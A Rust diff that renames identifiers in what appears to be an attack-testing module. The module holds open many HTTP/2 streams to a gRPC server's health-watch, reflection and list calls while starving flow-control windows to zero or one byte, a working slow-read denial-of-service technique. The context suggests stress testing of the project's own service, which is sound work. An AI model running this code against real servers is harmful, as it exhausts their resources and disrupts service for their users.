@@ -10,8 +10,8 @@ use tonic_health::pb::HealthCheckRequest;
 use tonic_reflection::pb::v1::ServerReflectionRequest;
 use tonic_reflection::pb::v1::server_reflection_request::MessageRequest;
 
-use crate::attack::{LIST, Target};
-use crate::wire::{self, Wire};
+use crate::attacks::{LIST, Target};
+use crate::raw_http2::{self, RawHttp2};
 
 const WATCH: &str = "/grpc.health.v1.Health/Watch";
 const REFLECT: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
@@ -22,11 +22,11 @@ const STREAMS: usize = 120;
 /// Requests on each stream of reflection.
 const REFLECTIONS: usize = 8;
 /// Between two looks at what has come.
-const LOOK: Duration = Duration::from_millis(200);
+const READ_TIMEOUT: Duration = Duration::from_millis(200);
 /// Looks until calls that were refused are made again, a second: this is no flood.
-const AGAIN: u32 = 5;
+const REPEATS: u32 = 5;
 /// Looks between two bytes that are read: a second.
-const LOOKS_A_BYTE: u32 = 5;
+const READS_PER_BYTE: u32 = 5;
 /// Tickets that fill the largest page, and the characters of their texts, of three bytes each.
 pub(crate) const TICKETS: usize = 120;
 const LONG: usize = 9_000;
@@ -62,13 +62,18 @@ enum Reading {
 }
 
 /// Answers a ping, and forgets streams that were refused.
-fn heed(wire: &mut Wire, open: &mut Vec<u32>, frame: &wire::Frame) -> io::Result<()> {
-    let ends = frame.flags & wire::END_STREAM != 0 && matches!(frame.kind, wire::HEADERS | wire::DATA);
-    if ends || frame.kind == wire::RST_STREAM {
+fn answer_control_frame(
+    peer: &mut RawHttp2,
+    open: &mut Vec<u32>,
+    frame: &raw_http2::Frame,
+) -> io::Result<()> {
+    let ends = frame.flags & raw_http2::END_STREAM != 0
+        && matches!(frame.kind, raw_http2::HEADERS | raw_http2::DATA);
+    if ends || frame.kind == raw_http2::RST_STREAM {
         open.retain(|stream| *stream != frame.stream);
     }
-    if frame.kind == wire::PING && frame.flags & wire::ACK == 0 {
-        wire.send(&wire::frame(wire::PING, wire::ACK, 0, &frame.payload))?;
+    if frame.kind == raw_http2::PING && frame.flags & raw_http2::ACK == 0 {
+        peer.send(&raw_http2::frame(raw_http2::PING, raw_http2::ACK, 0, &frame.payload))?;
     }
     Ok(())
 }
@@ -78,48 +83,48 @@ fn leave_unread(
     target: &Target,
     reading: Reading,
     count: usize,
-    mut call: impl FnMut(&mut Wire) -> io::Result<u32>,
+    mut call: impl FnMut(&mut RawHttp2) -> io::Result<u32>,
 ) -> io::Result<()> {
     let window = match reading {
         Reading::Window(bytes) => bytes,
         Reading::Trickle => 1,
-        Reading::Nothing => wire::WINDOW_MAX,
+        Reading::Nothing => raw_http2::WINDOW_MAX,
     };
-    let mut wire = target.open_with_window(window)?;
+    let mut peer = target.open_with_window(window)?;
     if reading == Reading::Nothing {
-        wire.send(&wire::window_update(0, wire::WINDOW_MAX - 65_535))?;
+        peer.send(&raw_http2::window_update(0, raw_http2::WINDOW_MAX - 65_535))?;
     }
-    wire.stream.set_read_timeout(Some(LOOK))?;
+    peer.stream.set_read_timeout(Some(READ_TIMEOUT))?;
     let (mut open, mut rounds) = (Vec::new(), 0_u32);
     while target.goes_on() {
-        while rounds.is_multiple_of(AGAIN) && open.len() < count {
-            open.push(call(&mut wire)?);
+        while rounds.is_multiple_of(REPEATS) && open.len() < count {
+            open.push(call(&mut peer)?);
             target.count(1);
         }
-        thread::sleep(LOOK);
+        thread::sleep(READ_TIMEOUT);
         rounds += 1;
         if reading == Reading::Nothing {
             continue;
         }
         // What has come meanwhile; a frame is never cut by the time-out, because little comes.
         loop {
-            match wire.receive() {
-                Ok(frame) => heed(&mut wire, &mut open, &frame)?,
+            match peer.receive() {
+                Ok(frame) => answer_control_frame(&mut peer, &mut open, &frame)?,
                 Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
                 Err(error) => return Err(error),
             }
         }
-        if reading == Reading::Trickle && rounds.is_multiple_of(LOOKS_A_BYTE) {
-            let more: Vec<u8> = open.iter().flat_map(|stream| wire::window_update(*stream, 1)).collect();
-            wire.send(&more)?;
+        if reading == Reading::Trickle && rounds.is_multiple_of(READS_PER_BYTE) {
+            let more: Vec<u8> = open.iter().flat_map(|stream| raw_http2::window_update(*stream, 1)).collect();
+            peer.send(&more)?;
         }
     }
     Ok(())
 }
 
 fn lists(target: &Target, reading: Reading) -> io::Result<()> {
-    let (block, message) = (wire::call(LIST, target.token()), wire::message(&largest_page()));
-    leave_unread(target, reading, LISTS, |wire| wire.call(&block, &message))
+    let (block, message) = (raw_http2::call(LIST, target.token()), raw_http2::message(&largest_page()));
+    leave_unread(target, reading, LISTS, |peer| peer.call(&block, &message))
 }
 
 pub(crate) fn unread_lists(target: &Target) -> io::Result<()> {
@@ -141,23 +146,24 @@ fn reflections(target: &Target, block: &[u8]) -> io::Result<()> {
         message_request: Some(MessageRequest::FileContainingSymbol(symbol)),
         ..ServerReflectionRequest::default()
     };
-    let messages = wire::message(&request).repeat(REFLECTIONS);
-    leave_unread(target, Reading::Window(1), STREAMS, |wire| {
-        let stream = wire.begin(block, 0)?;
-        wire.send(&wire::frame(wire::DATA, 0, stream, &messages))?;
+    let messages = raw_http2::message(&request).repeat(REFLECTIONS);
+    leave_unread(target, Reading::Window(1), STREAMS, |peer| {
+        let stream = peer.begin(block, 0)?;
+        peer.send(&raw_http2::frame(raw_http2::DATA, 0, stream, &messages))?;
         Ok(stream)
     })
 }
 
 pub(crate) fn unread_reflections(target: &Target) -> io::Result<()> {
-    reflections(target, &wire::anonymous_call(REFLECT))
+    reflections(target, &raw_http2::anonymous_call(REFLECT))
 }
 
 pub(crate) fn known_reflections(target: &Target) -> io::Result<()> {
-    reflections(target, &wire::call(REFLECT, target.token()))
+    reflections(target, &raw_http2::call(REFLECT, target.token()))
 }
 
 pub(crate) fn unread_watches(target: &Target) -> io::Result<()> {
-    let (block, message) = (wire::anonymous_call(WATCH), wire::message(&HealthCheckRequest::default()));
-    leave_unread(target, Reading::Window(0), STREAMS, |wire| wire.call(&block, &message))
+    let (block, message) =
+        (raw_http2::anonymous_call(WATCH), raw_http2::message(&HealthCheckRequest::default()));
+    leave_unread(target, Reading::Window(0), STREAMS, |peer| peer.call(&block, &message))
 }
